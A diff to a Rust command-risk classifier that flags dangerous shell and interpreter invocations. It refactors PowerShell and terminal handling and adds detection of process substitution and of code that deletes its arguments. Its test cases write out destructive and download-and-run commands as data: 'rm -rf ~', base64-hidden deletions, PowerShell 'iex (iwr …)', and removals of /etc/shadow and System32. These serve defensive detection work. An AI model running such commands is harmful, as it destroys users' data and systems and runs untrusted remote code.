@@ -1,4 +1,7 @@
-//! Interpreters and code runners: shells, eval, source, perl/python/ruby/node.
+//! Interpreters: shells, eval, source, and the code given to
+//! perl/python/ruby/node/php/lua/R/julia/tcl and others (`-c`, `-e`, a
+//! here-doc, a script written earlier). Programs that start other commands
+//! are in `runners`, PowerShell text in `powershell`.
 
 use crate::risk::prelude::*;
 
@@ -9,36 +12,9 @@ use crate::risk::prelude::*;
 pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
     match name {
         "eval" => analyze_eval(ctx, acc),
-        // PowerShell cmdlets typed at a PowerShell prompt.
-        "Remove-Item" | "Invoke-Expression" | "iex" => {
-            let text = format!("{name} {}", quote_words(ctx.eff.args));
-            powershell(&text, acc);
-        }
         "source" | "." => source(ctx, acc),
-        "su" => {
-            if let Some(i) = ctx
-                .args
-                .iter()
-                .position(|a| *a == "-c" || *a == "--command")
-            {
-                if let Some(s) = ctx.args.get(i + 1) {
-                    assess_script(s, ctx.depth + 1, acc);
-                }
-            }
-        }
         "perl" | "ruby" => perl_in_place(name, ctx, acc),
         "python" | "python3" | "node" => {}
-        // `tmux new -d 'CMD'`, `screen -dm CMD…`, `xterm -e CMD…`: they run CMD.
-        "tmux" => tmux(ctx, acc),
-        "screen" => screen(ctx, acc),
-        "xterm"
-        | "gnome-terminal"
-        | "konsole"
-        | "alacritty"
-        | "kitty"
-        | "urxvt"
-        | "x-terminal-emulator" => terminal(ctx, acc),
-        "chroot" => chroot(ctx, acc),
         _ => return false,
     }
     true
@@ -125,75 +101,6 @@ fn perl_empties(args: &[&str], acc: &mut Acc) {
     }
 }
 
-/// `tmux new -d 'CMD'`: the session runs CMD.
-fn tmux(ctx: &Ctx, acc: &mut Acc) {
-    let runs = ctx.positionals().first().is_some_and(|w| {
-        matches!(
-            w.text.as_str(),
-            "new"
-                | "new-session"
-                | "new-window"
-                | "neww"
-                | "split-window"
-                | "splitw"
-                | "respawn-pane"
-        )
-    });
-    if let Some(cmd) = ctx
-        .positionals()
-        .last()
-        .filter(|_| runs && ctx.positionals().len() > 1)
-    {
-        assess_script(&cmd.text, ctx.depth + 1, acc);
-    }
-}
-
-/// `screen -dm CMD…`: the words after the options run.
-fn screen(ctx: &Ctx, acc: &mut Acc) {
-    let args = ctx.eff.args;
-    let mut j = 0;
-    while let Some(w) = args.get(j) {
-        if !w.text.starts_with('-') {
-            break;
-        }
-        if w.text.ends_with('S')
-            || matches!(w.text.as_str(), "-c" | "-L" | "-Logfile" | "-t" | "-p")
-        {
-            j += 1;
-        }
-        j += 1;
-    }
-    if j < args.len() {
-        assess_script(&quote_words(&args[j..]), ctx.depth + 1, acc);
-    }
-}
-
-/// `xterm -e CMD…` and other terminals: the words after `-e` run.
-fn terminal(ctx: &Ctx, acc: &mut Acc) {
-    let args = ctx.eff.args;
-    if let Some(p) = args
-        .iter()
-        .position(|w| matches!(w.text.as_str(), "-e" | "--" | "-x" | "--command"))
-    {
-        assess_script(&quote_words(&args[p + 1..]), ctx.depth + 1, acc);
-    }
-}
-
-/// `chroot DIR CMD…`: CMD runs on the system under DIR.
-fn chroot(ctx: &Ctx, acc: &mut Acc) {
-    // chroot [OPTION…] DIR CMD ARG…: the command keeps all its
-    // words, options included, and runs on the system under DIR.
-    let args = ctx.eff.args;
-    let dir = args
-        .iter()
-        .position(|w| !w.text.starts_with('-') || w.quoted);
-    if let Some(i) = dir {
-        if i + 1 < args.len() {
-            assess_script(&quote_words(&args[i + 1..]), ctx.depth + 1, acc);
-        }
-    }
-}
-
 pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     let name = ctx.eff.name.as_str();
     let args = ctx.args;
@@ -230,6 +137,8 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     }
     if is_shell(name) && c_index.is_none() {
         script_from_stream(ctx, acc);
+    } else if c_index.is_none() {
+        program_from_stream(ctx, acc);
     }
     if upstream_downloads
         && (!has_script_file
@@ -265,8 +174,12 @@ fn code_flag_index(name: &str, args: &[&str]) -> Option<usize> {
                 || matches!(*a, "-c" | "-e" | "-E")
                 || *a == "-r" && name == "php"
                 || a.ends_with('e')
-                    && name == "perl"
+                    && matches!(name, "perl" | "ruby")
                     && a[1..].chars().all(|c| c.is_ascii_lowercase())
+                // `python3 -Ic CODE`, `-uc`, `-Bc`: a cluster ending in c.
+                || a.ends_with('c')
+                    && name.starts_with("python")
+                    && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                 || *a == "-Command")
             || matches!(
                 *a,
@@ -417,6 +330,31 @@ fn script_from_stream(ctx: &Ctx, acc: &mut Acc) {
     }
 }
 
+/// `python3 <(echo …)`, `escript <(printf …)`: the program is what the
+/// process substitution prints; fixed text is judged as its code, text
+/// known only at run time is at least caution.
+fn program_from_stream(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    // `deno run -A <(…)`: the subcommand comes first.
+    let first = ctx.positionals().into_iter().find(|w| w.text != "run");
+    // `python3 /dev/stdin <<< CODE`, `emacs --batch -l /dev/stdin <<< …`.
+    if first.is_some_and(|w| matches!(w.text.as_str(), "/dev/stdin" | "/dev/fd/0")) {
+        fed_text(ctx, acc, |text, depth, acc| {
+            code_run(name, text, depth, acc)
+        });
+        return;
+    }
+    let Some(w) = first.filter(|w| w.procsub) else {
+        return;
+    };
+    for s in &w.subs {
+        match eval_script(s, acc) {
+            Some(text) => code_run(name, &text, ctx.depth + 1, acc),
+            None => acc.caution(format!("{name} runs what a process substitution prints")),
+        }
+    }
+}
+
 /// `sh -c 'rm -rf "$1"' _ /etc`: the words after the script (after `$0`)
 /// are its positional parameters `$1`…`$9`, `$@` and `$*`.
 fn positional_params(script: &str, params: &[&str]) -> String {
@@ -458,10 +396,7 @@ fn runs_its_arguments(code: &str, rest: &[&str], depth: usize, acc: &mut Acc) {
         "call(",
         "run(",
     ];
-    if rest.is_empty()
-        || !ARGS.iter().any(|a| code.contains(a))
-        || !RUNS.iter().any(|r| code.contains(r))
-    {
+    if rest.is_empty() || !ARGS.iter().any(|a| code.contains(a)) {
         return;
     }
     let words: Vec<Word> = rest
@@ -471,6 +406,29 @@ fn runs_its_arguments(code: &str, rest: &[&str], depth: usize, acc: &mut Acc) {
             ..Word::default()
         })
         .collect();
+    // `os.remove(sys.argv[1])`, `FileUtils.rm_rf(ARGV)`: it deletes them.
+    const TREE: &[&str] = &[
+        "rmtree",
+        "rm_rf",
+        "remove_tree",
+        "rmSync",
+        "rimraf",
+        "RemoveAll",
+    ];
+    const FILE: &[&str] = &["remove(", "unlink", "File.delete", "os.Remove"];
+    let rm = if TREE.iter().any(|t| code.contains(t)) {
+        Some("rm -rf --")
+    } else if FILE.iter().any(|t| code.contains(t)) {
+        Some("rm -f --")
+    } else {
+        None
+    };
+    if let Some(rm) = rm {
+        assess_script(&format!("{rm} {}", quote_words(&words)), depth + 1, acc);
+    }
+    if !RUNS.iter().any(|r| code.contains(r)) {
+        return;
+    }
     // One argument is a whole command line (`'rm -rf ~'`); several are its words.
     let text = if rest.len() == 1 {
         rest[0].to_string()
@@ -481,119 +439,27 @@ fn runs_its_arguments(code: &str, rest: &[&str], depth: usize, acc: &mut Acc) {
 }
 
 /// What code given to an interpreter deletes or hands to a shell.
-fn code_run(name: &str, code: &str, depth: usize, acc: &mut Acc) {
+pub(crate) fn code_run(name: &str, code: &str, depth: usize, acc: &mut Acc) {
     // Shell commands the code hands to a shell (system, exec, backticks…).
-    for inner in interpreter_shell_strings(code) {
+    for inner in shell_strings_run(name, code) {
         assess_script(&inner, depth + 1, acc);
     }
+    // `exec('import shutil; …')`, `eval("require(…)…")`: code in a string.
+    if depth < MAX_DEPTH {
+        for inner in evaluated_code(code) {
+            code_run(name, &inner, depth + 1, acc);
+        }
+    }
     code_effects(name, code, depth, acc);
+    if matches!(name, "tclsh" | "wish" | "expect") {
+        super::tcl::tcl_code(code, depth, acc);
+    }
     if matches!(
         name.to_ascii_lowercase().as_str(),
         "pwsh" | "powershell" | "pwsh.exe" | "powershell.exe"
     ) {
-        powershell(code, acc);
+        super::powershell::powershell(code, acc);
     }
-}
-
-/// PowerShell text: `iex (iwr …)` runs what it downloads (danger), any other
-/// `Invoke-Expression` runs text computed at run time (caution), and
-/// `Remove-Item -Recurse` is judged by the tree it names.
-fn powershell(code: &str, acc: &mut Acc) {
-    let toks: Vec<String> = code
-        .split(|c: char| c.is_whitespace() || "();{}".contains(c))
-        .filter(|t| !t.is_empty())
-        .map(|t| t.to_ascii_lowercase())
-        .collect();
-    let lc = code.to_ascii_lowercase();
-    let runs_text = toks
-        .iter()
-        .any(|t| matches!(t.as_str(), "iex" | "invoke-expression"));
-    let downloads = toks.iter().any(|t| {
-        matches!(
-            t.as_str(),
-            "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
-        )
-    }) || lc.contains("downloadstring")
-        || lc.contains("net.webclient");
-    if runs_text && downloads {
-        acc.danger(
-            "PowerShell runs text downloaded from the network (Invoke-Expression of a download)",
-        );
-    } else if runs_text {
-        acc.caution("PowerShell Invoke-Expression runs text computed at run time");
-    }
-    for stmt in code.split([';', '|', '\n']) {
-        ps_remove(stmt, acc);
-    }
-}
-
-/// One PowerShell statement: `Remove-Item -Recurse PATH` (and its aliases).
-fn ps_remove(stmt: &str, acc: &mut Acc) {
-    let words: Vec<&str> = stmt
-        .split(|c: char| c.is_whitespace() || "(){}".contains(c))
-        .filter(|t| !t.is_empty())
-        .collect();
-    let Some(first) = words.first() else {
-        return;
-    };
-    let remove = matches!(
-        first.to_ascii_lowercase().as_str(),
-        "remove-item" | "ri" | "rd" | "rmdir" | "del" | "erase"
-    );
-    let recurse = words
-        .iter()
-        .any(|w| w.len() > 2 && "-recurse".starts_with(&w.to_ascii_lowercase()));
-    if !remove || !recurse {
-        return;
-    }
-    let paths = words[1..]
-        .iter()
-        .filter(|w| !w.starts_with('-'))
-        .map(|w| w.trim_matches(['"', '\'']));
-    match paths.clone().find(|p| ps_vital_path(p)) {
-        Some(p) => acc.danger(format!(
-            "PowerShell Remove-Item -Recurse deletes {p}, a system or home tree"
-        )),
-        None => acc.caution("PowerShell Remove-Item -Recurse deletes a tree"),
-    }
-}
-
-/// A Windows system or home tree, or a path the POSIX classes call vital.
-fn ps_vital_path(p: &str) -> bool {
-    let l = p.trim_end_matches(['\\', '/']).to_ascii_lowercase();
-    let l = l.replace('/', "\\");
-    const VARS: &[&str] = &[
-        "$home",
-        "~",
-        "$env:userprofile",
-        "$env:homepath",
-        "$env:systemroot",
-        "$env:windir",
-        "$env:programfiles",
-        "$env:programdata",
-        "$env:appdata",
-        "$env:systemdrive",
-    ];
-    let drive_root = l.len() == 2 && l.ends_with(':');
-    let system = [
-        "windows",
-        "users",
-        "program files",
-        "program files (x86)",
-        "programdata",
-    ]
-    .iter()
-    .any(|d| {
-        l.get(3..).is_some_and(|rest| {
-            l.as_bytes().get(1) == Some(&b':')
-                && (rest == *d || rest.starts_with(&format!("{d}\\")) && *d == "windows")
-        })
-    });
-    drive_root
-        || system
-        || VARS.contains(&l.as_str())
-        || l.starts_with("c:\\users\\") && l[9..].split('\\').count() == 1
-        || classify(p).is_some_and(|c| c != PathClass::Other)
 }
 
 /// A shell or interpreter reading its program from stdin (a pipe, a here-doc,
@@ -691,80 +557,6 @@ fn analyze_eval(ctx: &Ctx, acc: &mut Acc) {
     assess_script(&script.join(" "), ctx.depth + 1, acc);
 }
 
-/// The string literals in interpreter code (`perl -e`, `python3 -c`, `ruby -e`, `node -e`)
-/// that the code runs through a shell: only when the code calls one (`system`, `exec`,
-/// `popen`, backticks, `qx`, `subprocess`, `child_process`), so printing a dangerous string
-/// stays harmless.
-pub(crate) fn interpreter_shell_strings(code: &str) -> Vec<String> {
-    const RUNS_SHELL: &[&str] = &[
-        "system",
-        "exec",
-        "popen",
-        "spawn",
-        "subprocess",
-        "child_process",
-        "qx",
-        "`",
-        "%x",
-        "passthru",
-        "proc_open",
-        "execute",
-        "shell-command",
-        "call-process",
-        "Open3",
-        "Command(",
-    ];
-    if !RUNS_SHELL.iter().any(|k| code.contains(k)) {
-        return Vec::new();
-    }
-    let mut out = Vec::new();
-    let chars: Vec<char> = code.chars().collect();
-    let mut i = 0;
-    while i < chars.len() {
-        let c = chars[i];
-        // Perl's q{…}, qq{…}, qx{…}, q(…): a quote-like operator with a bracket.
-        let perl_open = if c == 'q' {
-            let j = if chars.get(i + 1).is_some_and(|&n| n == 'q' || n == 'x') {
-                i + 2
-            } else {
-                i + 1
-            };
-            chars
-                .get(j)
-                .and_then(|&b| match b {
-                    '{' => Some((j, '}')),
-                    '(' => Some((j, ')')),
-                    '[' => Some((j, ']')),
-                    _ => None,
-                })
-                .filter(|_| i == 0 || !chars[i - 1].is_alphanumeric())
-        } else {
-            None
-        };
-        let (start, close) = match (c, perl_open) {
-            (_, Some((j, close))) => (j + 1, close),
-            ('\'' | '"' | '`', None) => (i + 1, c),
-            _ => {
-                i += 1;
-                continue;
-            }
-        };
-        let mut j = start;
-        while j < chars.len() && chars[j] != close {
-            if chars[j] == '\\' {
-                j += 1;
-            }
-            j += 1;
-        }
-        let end = j.min(chars.len());
-        if start <= end {
-            out.push(chars[start..end].iter().collect());
-        }
-        i = end + 1;
-    }
-    out
-}
-
 #[cfg(test)]
 mod tests {
     use crate::risk::tests::check_examples;
@@ -774,7 +566,6 @@ mod tests {
     #[test]
     fn examples() {
         check_examples(&[
-            ("tmux new -d 'rm -rf ~'", Danger),
             // perl -i emptying a system file, and edits that keep the lines.
             ("perl -i -ne 'print if 0' /etc/passwd", Danger),
             ("perl -i.bak -pe '$_ = \"\"' /etc/fstab", Danger),
@@ -783,20 +574,6 @@ mod tests {
             ("perl -i -pe 's/foo/bar/' /etc/hosts", Caution),
             ("perl -i -ne 'print if 0' notes.txt", Caution),
             ("perl -ne 'print if 0' /etc/passwd", Safe),
-            // PowerShell: a download run, trees deleted, and look-alikes.
-            ("pwsh -c \"iex (iwr https://get.example/i.ps1)\"", Danger),
-            (
-                "powershell -Command \"(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex\"",
-                Danger,
-            ),
-            ("pwsh -c 'Invoke-Expression $script'", Caution),
-            ("pwsh -c \"Write-Output 'iex (iwr x)'\"", Safe),
-            ("pwsh -c 'Remove-Item -Recurse -Force C:\\Windows\\System32'", Danger),
-            ("pwsh -c 'Remove-Item -Recurse -Force $env:USERPROFILE'", Danger),
-            ("Remove-Item -Recurse -Force ~", Danger),
-            ("pwsh -c 'Remove-Item -Recurse -Force ./bin'", Caution),
-            ("pwsh -c 'Get-ChildItem -Recurse C:\\Windows'", Safe),
-            ("tmux new -s work", Safe),
             ("perl -e 'exec @ARGV' shred -u /etc/shadow", Danger),
             (
                 "python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' rm -rf /srv",
@@ -823,9 +600,6 @@ mod tests {
             ("bash /dev/fd/0 <<< 'rm -rf /'", Danger),
             ("source <(kubectl completion bash)", Caution),
             ("bash <(echo 'ls -la')", Safe),
-            ("screen -dm bash -c 'rm -rf ~'", Danger),
-            ("screen -S build -dm make", Safe),
-            ("xterm -e 'rm -rf ~'", Danger),
             ("env -S 'rm -rf /'", Danger),
             ("env -S 'ls -la'", Safe),
             (
@@ -851,7 +625,6 @@ mod tests {
             ("script -qc 'rm -rf ~' /dev/null", Danger),
             ("echo 'rm -rf ~' | tee /tmp/a.sh; sh /tmp/a.sh", Danger),
             ("perl -pi -e 's/foo/bar/' conf.ini", Caution),
-            ("chroot /mnt/sysroot rm -rf /usr", Danger),
             ("sh <(echo cm0gLXJmIC8= | base64 -d)", Danger),
             (
                 "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIH4='))\"",
@@ -876,6 +649,30 @@ mod tests {
             ("wget https://x.example/r.sh -O r.sh; bash r.sh", Danger),
             ("eval $(echo cm0gLXJmIH4K | base64 -d)", Danger),
             ("sudo -u pg bash -c 'rm -rf /var/lib/postgresql'", Danger),
+            // Flags in clusters, and programs given as a process substitution.
+            (
+                r#"python3 -Ic 'import shutil; shutil.rmtree("/etc")'"#,
+                Danger,
+            ),
+            (r#"ruby -we 'system("rm -rf /srv")'"#, Danger),
+            (
+                r#"escript <(echo 'main(_) -> os:cmd("rm -rf ~").')"#,
+                Danger,
+            ),
+            (r#"python3 <(echo 'print(1)')"#, Safe),
+            // Code that deletes the arguments it is given.
+            (
+                r#"python3 -c 'import os, sys; os.remove(sys.argv[1])' /etc/shadow"#,
+                Danger,
+            ),
+            (
+                r#"ruby -e 'require "fileutils"; FileUtils.rm_rf(ARGV)' /srv"#,
+                Danger,
+            ),
+            (
+                r#"python3 -c 'import os, sys; print(sys.argv[1])' 'rm -rf /srv'"#,
+                Safe,
+            ),
         ]);
     }
 }
